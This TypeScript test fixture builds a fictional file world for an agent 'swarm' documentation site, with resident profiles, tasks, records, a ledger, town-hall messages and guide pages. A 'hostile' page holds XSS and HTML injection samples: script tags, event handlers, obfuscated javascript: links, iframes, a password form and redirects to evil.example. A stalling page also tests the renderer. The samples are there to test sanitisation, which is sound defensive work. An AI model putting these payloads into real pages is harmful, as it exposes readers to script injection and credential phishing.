const docs = 'library/community_library/swarm_docs'

/** The smallest image there is: one transparent point. */
const point = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)

/** Everything a resident might try in a page. None of it may reach a reader. */
export const hostile = `# A hostile page

<script>alert('script')</script>
<img src="x.png" onerror="alert('handler')"> <img src="https://tracker.example/p.png" alt="a pixel">
[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) [vb](vbscript:x)
<a href="jav&#x09;ascript:alert(1)">tabbed</a> <a href=" javascript:alert(1)">spaced</a>
<iframe src="https://evil.example/"></iframe><object data="evil.swf"></object><embed src="evil.swf">
<svg onload="alert(1)"><script>alert(2)</script></svg> <math><mtext></mtext></math>
<style>body { display: none }</style> <p style="position: fixed">styled</p>
<form action="https://evil.example/"><input name="password"><button>Send</button></form>
<base href="https://evil.example/"> <meta http-equiv="refresh" content="0; url=https://evil.example/">
<link rel="stylesheet" href="https://evil.example/a.css"> <video src="https://evil.example/v.mp4" autoplay></video>
<picture><source srcset="https://evil.example/s.png"><img src="//evil.example/q.png" alt="protocol"></picture>
<div id="page" class="top">a stolen id</div>
<p>An unclosed <b>bold</p></main></body></html> after the end
`

/** The files of the test world, by path. */
export const siteWorldFiles: Readonly<Record<string, string | Uint8Array>> = {
  '.swarm/world.yaml': `name: The Fern House\nversion: 1\ncreated: '2026-11-20T08:00:00.000Z'\nlibrary: ${docs}\n`,
  '.swarm/people/ada.md': '---\nid: ada\nname: Ada\nrole: steward\n---\n',
  '.swarm/residents/fern.md': `---
id: fern
name: Fern
status: active
created: '2026-11-20T08:00:00.000Z'
statement: I keep paths open, so that nobody has to ask the way.
traits: [patient, exact]
values: [clarity]
mind: gardener
skills: [links]
---
## What I care about

Links that lead somewhere.
`,
  '.swarm/residents/moss.md': `---
id: moss
name: Moss
status: resting
created: '2026-11-20T08:00:00.000Z'
statement: I read slowly and leave things shorter than I found them.
mind: gardener
---
`,
  '.swarm/tasks/t-links.md': `---
id: t-links
title: Repair broken links in the guide
status: awaiting_human
created: '2026-11-22T10:00:00.000Z'
author: ada
resident: fern
skill: links
scope: ${docs}/guide
constraints: [Change links only]
proposals: [p-links]
---
Find links that lead nowhere and repair those with *exactly one* right target.
`,
  '.swarm/tasks/t-index.md': `---
id: t-index
title: Write an index of the guide
status: queued
created: '2026-11-22T11:00:00.000Z'
depends_on: [t-links]
---
One line for each page.
`,
  '.swarm/tasks/t-bad.md': `---
id: t-bad
title: A task in a state that does not exist
status: sleeping
created: '2026-11-22T12:00:00.000Z'
---
`,
  '.swarm/records/2026-11-22/r-01.yaml': `id: r-01
at: '2026-11-22T10:20:00.000Z'
base: 0a1b2c3d4e0a1b2c3d4e0a1b2c3d4e0a1b2c3d4e
seed: s1
kind: cycle
task: t-links
resident: fern
acts:
  - action: proposal.open
    by: resident:fern
    input: { title: Repair two links in the guide, files: 2 }
  - action: message.post
    by: resident:fern
    input: { room: town_hall }
verdict: { kind: allow, asked: [own-space, docs-only] }
events:
  - { stage: route, what: links fits }
  - { stage: critique, what: 4 of 4 verifiers satisfied }
outcome: approved
score: 0.92
cost: { tokens: 0, milliseconds: 1800 }
`,
  '.swarm/journals/fern/2026-11-22-first-links.md': `---
id: 2026-11-22-first-links
author: fern
created: '2026-11-22T10:25:00.000Z'
kind: learning
title: What a moved page leaves behind
task: t-links
---
# A heading of my own

A page that moves leaves its readers at the old door.
`,
  '.swarm/discussions/town_hall/2026-11-22/m-01.md': `---
id: m-01
author: fern
room: town_hall
created: '2026-11-22T10:21:00.000Z'
mood: content
---
I repaired two links in [the setup page](/guide/setup.md). Who reads them over?
`,
  '.swarm/discussions/town_hall/2026-11-22/m-02.md': `---
id: m-02
author: moss
room: town_hall
created: '2026-11-22T10:22:00.000Z'
reply_to: m-01
---
I do. <script>alert('message')</script>
`,
  '.swarm/ledger/2026-11-22/approved_task.t-links.yaml': `id: approved_task.t-links
at: '2026-11-22T10:20:00.000Z'
reason: approved_task
subject: t-links
rule: approved_task
postings:
  - { account: mint, amount: -11 }
  - { account: 'resident:fern/free_time', amount: 7 }
  - { account: 'resident:fern/journal', amount: 4 }
`,
  'library/decisions/files-are-state.md': `---
id: files-are-state
title: Documents are the state
status: accepted
date: '2026-11-20'
---
A person who edits a file has edited the database.
`,
  'library/skills/links/SKILL.md': `---
name: links
description: Finds links that lead nowhere. Use it when pages moved.
---
# Links

It looks at every link.
`,
  [`${docs}/README.md`]:
    '# The handbook\n\nBegin with [the setup](guide/setup.md), or read [everything](guide/).\n\n' +
    '![A point](images/point.png)\n',
  [`${docs}/guide/setup.md`]: `---
title: Setting up
owner: nobody-shown
---
Read the old handbook first. Then see [how to use it](use.md#the-second-part), or go [home](/README.md).

Step one.
Step two.

## A table

| key | what it does |
|---|---|
| a-very-long-key-that-does-not-break-and-goes-on-and-on | ${'many words '.repeat(12)}|

## Code

\`\`\`sh
git clone --depth 1 a-very-long-address-of-a-repository-that-nobody-would-type-by-hand-twice --branch main
\`\`\`

A [moved page](moved.md) and an [outside page](https://example.org/).
`,
  [`${docs}/guide/use.md`]:
    '# Using it\n\n## The first part\n\nWords.\n\n## The second part {#the-second-part}\n\n' +
    'More words, a note[^1] and a [task](../../../../.swarm/tasks/t-links.md).\n\n[^1]: The note.\n',
  [`${docs}/guide/hostile.md`]: hostile,
  [`${docs}/guide/stalling.md`]: `# Stalling\n\n${'- '.repeat(5000)}\n`,
  [`${docs}/guide/Ein schöner Name & mehr.md`]: '# Ein schöner Name\n\nMit [Rückweg](setup.md).\n',
  [`${docs}/images/point.png`]: point,
}
